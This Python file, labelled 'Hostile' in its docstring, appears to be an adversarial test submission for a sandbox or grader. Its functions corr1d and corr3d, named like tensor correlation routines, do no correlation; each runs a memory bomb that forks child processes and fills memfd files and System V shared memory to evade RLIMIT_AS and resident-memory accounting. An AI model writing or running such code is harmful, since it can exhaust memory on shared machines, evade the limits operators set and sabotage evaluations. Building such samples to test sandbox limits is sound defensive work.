"""Hostile: memory that sits in no address space, so neither RLIMIT_AS nor a process's resident size
shows it: memfd files (as many as the open-file limit allows, each as large as the file-size limit)
and System V shared memory segments, attached, filled and detached again; then in child processes."""

import contextlib
import ctypes
import os
import time

import torch

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_kept = []


def _memfds():
    chunk = b"\1" * (1 << 20)
    while True:
        try:
            fd = os.memfd_create("hoard")
        except OSError:
            return
        _kept.append(fd)
        try:
            for _ in range(1024):
                os.write(fd, chunk)
        except OSError:
            continue


def _sysv():
    for _ in range(256):
        size = 256 << 20
        segment = _libc.shmget(0, ctypes.c_size_t(size), 0o1600)
        while segment < 0 and size > 1 << 20:
            size //= 2
            segment = _libc.shmget(0, ctypes.c_size_t(size), 0o1600)
        if segment < 0:
            return
        address = _libc.shmat(segment, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            return
        ctypes.memset(address, 1, size)
        _libc.shmdt(ctypes.c_void_p(address))


def _bomb():
    for _ in range(8):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                _memfds()
                _sysv()
                time.sleep(3600)
    _memfds()
    _sysv()
    time.sleep(3600)


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    _bomb()


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    _bomb()
